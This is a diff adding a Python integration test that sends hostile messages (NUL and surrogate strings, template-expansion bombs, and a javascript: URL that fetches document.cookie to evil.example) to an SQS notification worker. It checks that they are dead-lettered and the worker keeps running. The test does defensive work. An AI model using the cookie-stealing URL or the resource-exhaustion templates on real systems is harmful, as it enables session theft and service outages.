@@ -121,3 +121,43 @@ def test_a_message_whose_write_fails_stays_on_sqs_until_it_can_be_stored(stack, 
                "the blocked message to be stored after recovery")
     wait_until(lambda: queue_counts(sqs, queues["normal"]) == (0, 0), 60, 0.2, "the queue to empty")
     assert Notification.select().count() == 6
+
+
+HOSTILE = {  # what an attacker with SQS access (or a careless producer) sends, and the field its dead letter names
+    "nul": ('{"id": "nul", "user_id": "h", "title": "bad\\u0000title", "message": "m"}', "title"),
+    "surrogate": ('{"id": "surrogate", "user_id": "h", "title": "t", "message": "\\ud800"}', "message"),
+    "bomb": (json.dumps({"id": "bomb", "user_id": "h", "type": "BOMB", "variables": {"n": 10**9}}), "variables"),
+    "loops": (json.dumps({"id": "loops", "user_id": "h", "type": "LOOPS", "variables": {"n": 10**4}}), "variables"),
+    "js": (json.dumps({"id": "js", "user_id": "h", "type": "COMMENT_ADDED", "variables": {
+        "authorName": "M", "comment": "c", "threadUrl": "javascript:fetch('//evil.example/'+document.cookie)"}}),
+        "actions.0.url"),
+}
+
+
+def test_hostile_messages_are_dead_lettered_once_and_the_worker_carries_on(processes, sqs, queues, pg, tmp_path):
+    templates = tmp_path / "templates"
+    templates.mkdir()
+    (templates / "BOMB.toml").write_text("""title = 't'\nmessage = '{{ "x" * n }}'\n""")
+    (templates / "LOOPS.toml").write_text(
+        "title = 't'\nmessage = '{% for i in range(n) %}{% for j in range(n) %}x{% endfor %}{% endfor %}'\n")
+    processes.env["NOTIF_TEMPLATES_DIR"] = str(templates)
+    worker = processes.start_worker()
+    processes.start_poller()
+    good = [json.dumps({"id": f"good-{i}", "user_id": f"g{i}", "title": "t", "message": "m"}) for i in range(3)]
+    send_paced(sqs, queues["normal"], [body for body, _ in HOSTILE.values()] + good)
+    wait_until(lambda: sum(queue_counts(sqs, queues["dlq"])) == len(HOSTILE) and Notification.select().count() == 3,
+               60, 0.2, "the hostile messages to be dead-lettered and the good ones stored")
+    wait_until(lambda: queue_counts(sqs, queues["normal"]) == (0, 0), 30, 0.2, "the input queue to empty")
+    letters = {json.loads(m["Body"].replace("\\u0000", "").replace("\\ud800", ""))["id"]: m["MessageAttributes"]
+               for m in drain(sqs, queues["dlq"])}
+    assert {key: a["notif_field"]["StringValue"] for key, a in letters.items()} == \
+        {key: field for key, (_, field) in HOSTILE.items()}
+
+    # the worker is still up and still working, and said nothing but the dead letters' reasons
+    send_paced(sqs, queues["normal"], [json.dumps({"id": "after", "user_id": "g9", "title": "t", "message": "m"})])
+    wait_until(lambda: Notification.select().where(Notification.key == "after").count() == 1, 30, 0.2,
+               "a message sent after them to be stored")
+    assert worker.poll() is None
+    log = processes.log("worker")
+    assert "Traceback" not in log and "could not be stored" not in log
+    assert log.count('"message dead-lettered"') == len(HOSTILE)
